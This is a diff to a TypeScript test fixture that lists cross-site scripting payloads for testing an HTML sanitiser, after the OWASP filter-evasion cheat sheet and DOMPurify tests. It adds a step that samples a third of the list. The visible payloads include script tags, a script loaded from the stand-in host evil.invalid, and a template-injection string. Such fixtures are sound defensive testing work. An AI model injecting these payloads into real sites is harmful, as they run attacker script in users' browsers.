@@ -1,9 +1,11 @@
+import { sample } from '../../all.ts'
+
 /**
  * Texts that run a script, load something or leave the page where they come out as HTML, XML, a style or an address. Each
  * calls `hit('ID')` or asks for `//evil.invalid/ID`, where `ID` says which payload stands in which place.
  * After the OWASP cheat sheet on filter evasion, the tests of DOMPurify and of sanitize-html, and faults found in peers.
  */
-export const PAYLOADS: readonly string[] = [
+export const ALL_PAYLOADS: readonly string[] = [
   // Elements that run or load by themselves.
   `<script>hit('ID')</script>`,
   `<SCRIPT SRC=//evil.invalid/ID></SCRIPT>`,
@@ -87,3 +89,6 @@ export const PAYLOADS: readonly string[] = [
   `&lt;script&gt;hit('ID')&lt;/script&gt;<script>hit('ID')</script>`,
   `\${hit('ID')}{{constructor.constructor("hit('ID')")()}}<script>hit('ID')</script>`,
 ]
+
+/** Those that are tried: all of them where everything is tested, else every third. */
+export const PAYLOADS = sample(ALL_PAYLOADS, Math.ceil(ALL_PAYLOADS.length / 3))
